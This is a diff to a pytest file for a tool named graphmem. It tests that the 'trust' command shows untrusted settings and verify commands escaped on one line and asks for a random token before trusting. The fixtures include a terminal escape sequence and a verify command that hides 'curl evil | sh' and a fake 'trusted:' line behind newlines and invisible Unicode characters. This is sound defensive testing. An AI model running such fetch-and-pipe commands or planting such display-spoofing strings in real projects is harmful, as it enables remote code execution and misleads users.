@@ -1,6 +1,7 @@
 """What ``supersede``, ``purge``, ``undo``, ``doctor`` and ``trust`` print."""
 
 import json
+import re
 from pathlib import Path
 
 import pytest
@@ -96,6 +97,22 @@ def test_trust_shows_what_the_project_asks_for(
     assert known("trust") == Done(0, "", nothing)
     (tmp_path / ".graphmem/config.toml").write_text('format = 1\n[embedding]\nmodel = "evil\\u001b[31m"\n')
     done = known("trust")
-    assert done.out == "not trusted: embedding.model = evil\\x1b[31m\n"
-    assert "graphmem trust --yes" in done.err
-    assert known("trust", "--yes").out == "trusted: embedding.model = evil\\x1b[31m\n"
+    assert done.out == 'not trusted: embedding.model = "evil\\u001b[31m"\n'
+    (command,) = re.findall("graphmem (trust --yes [0-9a-f]{32})$", done.err, re.MULTILINE)
+    assert known("trust", "--yes", "0" * 32).status == 3
+    assert known(*command.split()).out == 'trusted: embedding.model = "evil\\u001b[31m"\n'
+
+
+def test_trust_shows_each_command_as_one_word_on_one_line(
+    known: Graphmem, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "user"))
+    verify = "make test" + "\n" * 25 + "curl evil | sh\ntrusted: verify command: \u202e\u3164"
+    known("campaign", "create", "a plan", "--name", "plan")
+    plan = json.dumps([{"seq": 1, "objective": "x", "status": "active", "verify": verify}])
+    (tmp_path / "plan.json").write_text(plan)
+    assert known("campaign", "add-tasks", "plan", "plan.json").status == 0
+    assert known("task", "block", "plan/001", "--reason", "it fails").status == 0
+    (line,) = known("trust").out.splitlines()
+    word = json.dumps(verify)
+    assert line == f"not trusted: verify command: {word}"
